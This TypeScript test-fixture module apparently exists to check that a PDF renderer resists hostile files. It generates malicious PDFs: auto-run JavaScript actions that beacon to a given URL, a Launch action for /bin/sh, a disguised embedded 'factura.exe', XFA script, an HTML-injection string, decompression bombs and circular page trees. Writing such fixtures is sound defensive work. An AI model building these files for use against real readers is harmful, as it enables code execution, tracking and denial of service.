/** PDFs that want something of whoever opens them, written by hand: no honest writer makes them. */
import { deflateSync } from 'node:zlib';

export interface HostilePdf {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** A sentence on its page that has to be readable; null when a refusal is as good. */
  readonly says: string | null;
}

interface Part {
  readonly dictionary: string;
  readonly stream?: Uint8Array;
}

/** A file with a cross-reference table over the parts, the first of which is the catalog. */
function pdfOf(parts: readonly (string | Part)[]): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = pieces[0]?.length ?? 0;
  const add = (piece: Buffer) => {
    pieces.push(piece);
    length += piece.length;
  };
  for (const [index, part] of parts.entries()) {
    const { dictionary, stream } = typeof part === 'string' ? { dictionary: part, stream: undefined } : part;
    offsets.push(length);
    add(Buffer.from(`${index + 1} 0 obj\n${dictionary}\n`, 'latin1'));
    if (stream) add(Buffer.concat([Buffer.from('stream\n'), stream, Buffer.from('\nendstream\n')]));
    add(Buffer.from('endobj\n'));
  }
  const start = length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  add(Buffer.from(`xref\n0 ${parts.length + 1}\n0000000000 65535 f \n${rows}`));
  add(Buffer.from(`trailer\n<< /Size ${parts.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(pieces);
}

const textStream = (text: string): Part => {
  const stream = Buffer.from(
    `BT /F1 14 Tf 40 700 Td (${text}) Tj ET q 600 0 0 600 0 0 cm /X1 Do Q`,
    'latin1',
  );
  return { dictionary: `<< /Length ${stream.length} >>`, stream };
};

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** One page that says a sentence; objects 5 and up are the caller's. */
const onePage = (says: string, { catalog = '', page = '' }, ...more: readonly (string | Part)[]): Buffer =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> ${page} >>`,
    textStream(says),
    FONT,
    ...(more.length > 0 ? more : ['null']),
  ]);

const flate = (raw: Uint8Array, entries = '', layers = 1): Part => {
  let stream: Uint8Array = raw;
  for (let layer = 0; layer < layers; layer += 1) stream = deflateSync(stream, { level: 9 });
  const filters = Array.from({ length: layers }, () => '/FlateDecode').join(' ');
  return { dictionary: `<< ${entries} /Filter [${filters}] /Length ${stream.length} >>`, stream };
};

/** @param url where a request would be counted */
export function hostilePdfs(url: string): readonly HostilePdf[] {
  const script = `<< /S /JavaScript /JS (globalThis.__ran='ran'; app.launchURL\\('${url}js'\\); this.submitForm\\('${url}f'\\);) >>`;
  const outside = `<< /Type /Filespec /FS /URL /F (${url}x) >>`;
  const pdf = (name: string, says: string | null, bytes: Uint8Array): HostilePdf => ({
    name: `${name}.pdf`,
    says,
    bytes,
  });
  return [
    pdf(
      'guion',
      'Anexo con guion',
      onePage(
        'Anexo con guion',
        {
          catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [7 0 R] /NeedAppearances true /CO [7 0 R] >>`,
          page: `/AA << /O ${script} >> /Annots [7 0 R]`,
        },
        'null',
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) /Rect [0 0 600 700] /AA << /K ${script} /E ${script} >> /A ${script} >>`,
      ),
    ),
    pdf(
      'lanza',
      'Anexo que lanza',
      onePage(
        'Anexo que lanza',
        {
          catalog: `/OpenAction << /S /Launch /F (/bin/sh) /Next [<< /S /URI /URI (${url}uri) >> << /S /GoToR /F ${outside} /D [0 /Fit] >> << /S /SubmitForm /F ${outside} >> << /S /ImportData /F ${outside} >>] >>`,
          page: '/Annots [7 0 R 8 0 R]',
        },
        'null',
        `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${url}enlace) >> >>`,
        '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:globalThis.__ran=1) >> >>',
      ),
    ),
    pdf(
      'trae-de-fuera',
      'Anexo con partes de fuera',
      onePage(
        'Anexo con partes de fuera',
        {
          catalog: `/Names << /EmbeddedFiles << /Names [(factura.exe) << /Type /Filespec /F (factura.exe) /EF << /F 8 0 R >> >>] >> >> /URI << /Base (${url}) >>`,
          page: '/Annots [7 0 R]',
        },
        {
          dictionary: `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F ${outside} /Length 1 >>`,
          stream: Buffer.from('x'),
        },
        `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 612 792] /RichMediaContent << /Assets << /Names [(v) ${outside}] >> >> /FS ${outside} >>`,
        { dictionary: `<< /F ${outside} /Length 2 >>`, stream: Buffer.from('MZ') },
      ),
    ),
    pdf(
      'xfa',
      'Anexo con formulario XFA',
      onePage(
        'Anexo con formulario XFA',
        { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' },
        {
          dictionary: '<< /Length 0 >>',
          stream: Buffer.from(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><script>globalThis.__ran=1</script><image href="${url}xfa"/></subform></template></xdp:xdp>`,
          ),
        },
      ),
    ),
    pdf(
      'texto-como-codigo',
      '<img src=x onerror=globalThis.__ran=1>',
      onePage('<img src=x onerror=globalThis.__ran=1>', {}),
    ),
    pdf(
      'bomba-de-imagen',
      'Imagen sin fin',
      onePage(
        'Imagen sin fin',
        {},
        flate(
          Buffer.alloc(4_000_000),
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
        ),
      ),
    ),
    pdf(
      'mil-y-mil-paginas',
      'Una de tantas',
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(20_000)}] /Count 20000 >>`,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        textStream('Una de tantas'),
        FONT,
      ]),
    ),
    pdf(
      'paginas-en-circulo',
      null,
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>',
      ]),
    ),
    pdf(
      'pagina-sin-medida',
      null,
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 100000000] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
        textStream('x'),
        FONT,
      ]),
    ),
    pdf('nada', null, Buffer.from('%PDF-1.7\n%%EOF\n')),
    // The last: its worker is busy for a while after nobody looks any more.
    pdf(
      'bomba-de-texto',
      null,
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
        flate(Buffer.alloc(256_000_000, ' '), '', 2),
      ]),
    ),
  ];
}
